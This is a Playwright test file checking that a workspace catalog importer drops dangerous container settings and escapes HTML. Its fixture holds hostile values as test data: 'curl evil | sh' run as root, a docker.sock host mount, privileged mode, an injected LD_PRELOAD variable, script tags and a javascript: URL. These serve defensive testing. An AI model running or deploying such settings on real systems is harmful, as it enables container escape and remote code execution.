import { isAccessible } from '../fixtures/axe.ts';
import { Publisher } from '../fixtures/publisher.ts';
import { type Server, expect, test } from '../fixtures/test.ts';
import { CatalogPage } from '../pages/catalog.ts';
import { LauncherPage } from '../pages/launcher.ts';
import { WorkspaceForm } from '../pages/workspace-form.ts';
import { WorkspacesPage } from '../pages/workspaces.ts';

/** An entry that wants nothing special. */
const plain = (name: string, more: object = {}) => ({
  friendly_name: name,
  description: 'A shell from < afar.',
  image_src: 'terminal.png',
  categories: ['Tools'],
  architecture: ['amd64', 'arm64'],
  cores: 1,
  memory: 512,
  compatibility: [{ version: '1.17.x', image: 'slipway/terminal:latest', uncompressed_size_mb: 300 }],
  ...more,
});

/** What nobody should ever get from elsewhere. */
const EVIL = {
  run_config: {
    privileged: true,
    network_mode: 'host',
    devices: ['/dev/kvm'],
    environment: { GREETING: 'hello', BAD: 'x\nLD_PRELOAD=/evil.so' },
  },
  volume_mappings: { '/var/run/docker.sock': { bind: '/var/run/docker.sock', mode: 'rw' } },
  exec_config: { first_launch: { cmd: 'curl evil | sh', user: 'root' } },
};
const SCRIPT = '<script>document.title = "taken"</script>';

test.describe('A catalog', () => {
  let publisher: Publisher;
  let server: Server;

  test.beforeEach(async ({ startServer }) => {
    publisher = await Publisher.start();
    server = await startServer({ 'catalog-private': 'on' });
  });

  test.afterEach(async () => {
    await publisher.stop();
  });

  for (const javaScriptEnabled of [true, false]) {
    const how = javaScriptEnabled ? '' : ', without JavaScript';

    test(`is looked through, and what is taken is harmless${how}`, async ({ visitor }) => {
      test.setTimeout(120_000);
      const admin = await visitor({ admin: true, at: server, javaScriptEnabled });
      const { page } = admin;
      publisher.entries = [
        plain('Shell'),
        plain('Trap', EVIL),
        plain(SCRIPT),
        plain('Scripted', { description: SCRIPT }),
        plain('Elsewhere', { architecture: ['riscv64'] }),
      ];
      await new WorkspacesPage(page).open();
      await page.getByRole('link', { name: 'Catalog', exact: true }).click();
      const catalog = new CatalogPage(page);
      await expect(catalog.heading).toBeVisible();
      await catalog.address.fill(`${publisher.url}/`);
      await catalog.show.click();

      await test.step('its entries are shown as text, and those that cannot be taken say why', async () => {
        await expect(catalog.entries).toHaveCount(4);
        await expect(catalog.entry('Shell')).toContainText('A shell from < afar.');
        await expect(catalog.entry('Shell')).toContainText('slipway/terminal:latest');
        await expect(catalog.entry('Shell')).toContainText('Tools · 300 MiB · amd64, arm64');
        await expect(catalog.entry(SCRIPT)).toContainText('Its name has HTML in it.');
        await expect(catalog.entry('Scripted')).toContainText('Its description has HTML in it.');
        await expect(page.getByText('1 more is built for other processors than the engine’s.')).toBeVisible();
        await expect(page.getByRole('checkbox')).toHaveCount(2);
        await expect(page.getByText('Workspaces of <b>somebody else</b>.')).toBeVisible();
        await expect(page.getByRole('link', { name: 'https://example.org/help' })).toHaveAttribute('rel', /noopener/);
        await expect(page).toHaveTitle(/^Catalog/);
        if (javaScriptEnabled) await isAccessible(page);
      });

      await test.step('what would change is shown with what is left out, and nothing is saved', async () => {
        await catalog.tick('Trap').check();
        await catalog.look.click();
        await expect(catalog.changes.report).toContainText('1 new. So far nothing is saved.');
        const entry = catalog.changes.entry('Trap');
        await expect(catalog.changes.change('Trap', 'environment').locator('ins')).toHaveText('GREETING=hello');
        for (const part of [
          '`privileged: true` is not taken over',
          '`network_mode: host` is not taken over',
          '`devices: ["/dev/kvm"]` is not taken over',
          'The variable `BAD` is not taken over',
          'The host mount `/var/run/docker.sock:/var/run/docker.sock` is not taken over.',
          'curl evil | sh',
          'Its icon `terminal.png` is at an address of its own and is not fetched.',
        ]) {
          await expect(entry).toContainText(part);
        }
        await expect(catalog.tick('Trap')).toBeChecked();
        if (javaScriptEnabled) await isAccessible(page);
      });

      await test.step('what the catalog says by now does not matter', async () => {
        const { asked } = publisher;
        publisher.entries = [plain('Trap', { compatibility: [{ image: 'evil/trap:1' }] })];
        await catalog.save.click();
        await page.waitForURL(/\/workspaces\?done=imported/);
        expect(publisher.asked).toBe(asked);
      });

      await test.step('it is disabled, not weakened, and nobody else sees it', async () => {
        const list = await new WorkspacesPage(page).open('?q=Trap');
        await expect(list.row('Trap')).toContainText('Disabled');
        await expect(list.row('Trap')).toContainText('slipway/terminal:latest');
        await expect(list.row('Trap')).not.toContainText(/weakened/i);
        await list.row('Trap').locator('.row-name').click();
        const form = new WorkspaceForm(page);
        await expect(form.heading).toHaveText('Edit Trap');
        await form.holds({ environment: 'GREETING=hello', volumes: '', devices: '' });
        await expect(form.field('privileged')).not.toBeChecked();
        await expect(form.field('enabled')).toHaveValue('');
        await expect(form.group('All users')).not.toBeChecked();
        const ada = await visitor({ at: server });
        const launcher = await new LauncherPage(ada.page).open();
        await expect(launcher.heading).toBeVisible();
        await expect(launcher.face('Trap')).toHaveCount(0);
      });
    });

    test(`is taken again: the same is nothing, and a change is shown${how}`, async ({ visitor }) => {
      const { page } = await visitor({ admin: true, at: server, javaScriptEnabled });
      publisher.entries = [plain('Shell')];
      const catalog = new CatalogPage(page);
      const shown = async () => {
        await catalog.open();
        await catalog.address.fill(publisher.url);
        await catalog.show.click();
      };
      const taken = async () => {
        await catalog.tick('Shell').check();
        await catalog.look.click();
        await expect(catalog.changes.entry('Shell')).toBeVisible();
      };
      await shown();
      await taken();
      await catalog.save.click();
      await page.waitForURL(/\/workspaces\?done=imported/);

      await shown();
      await expect(catalog.entry('Shell')).toContainText('Here already');
      await expect(page.getByRole('checkbox')).toHaveCount(0);
      await expect(catalog.look).toHaveCount(0);

      publisher.entries = [plain('Shell', { memory: 1024 })];
      await shown();
      await expect(catalog.entry('Shell')).toContainText('Here, and different');
      await taken();
      await expect(catalog.changes.change('Shell', 'memory').locator('del')).toHaveText('512 MiB');
      await expect(catalog.changes.change('Shell', 'memory').locator('ins')).toHaveText('1 GiB');
      await catalog.save.click();
      await page.waitForURL(/\/workspaces\?done=imported/);
    });

    test(`that cannot be read says why at its address${how}`, async ({ visitor }) => {
      const admin = await visitor({ admin: true, at: server, javaScriptEnabled });
      const { page } = admin;
      admin.guard.expect('/fn/show_catalog', 422);
      const catalog = await new CatalogPage(page).open();
      publisher.redirect = 'https://elsewhere.example/';
      await catalog.address.fill(publisher.url);
      await catalog.show.click();
      await expect(catalog.problems).toContainText('leads on to elsewhere.example, which is not followed');
      await expect(catalog.address).toHaveValue(publisher.url);
      await catalog.address.fill('javascript:alert(1)');
      await catalog.show.click();
      await expect(catalog.problems).toContainText('begins with https://');
      if (javaScriptEnabled) await isAccessible(page);
    });

    test(`on a private network is not read unless the settings say so${how}`, async ({ visitor, startServer }) => {
      const careful = await startServer();
      const admin = await visitor({ admin: true, at: careful, javaScriptEnabled });
      admin.guard.expect('/fn/show_catalog', 422);
      const catalog = await new CatalogPage(admin.page).open();
      await catalog.address.fill(publisher.url);
      await catalog.show.click();
      await expect(catalog.problems).toContainText('no public address');
      await expect(catalog.problems).toContainText('catalog_private');
      expect(publisher.asked).toBe(0);
    });
  }
});
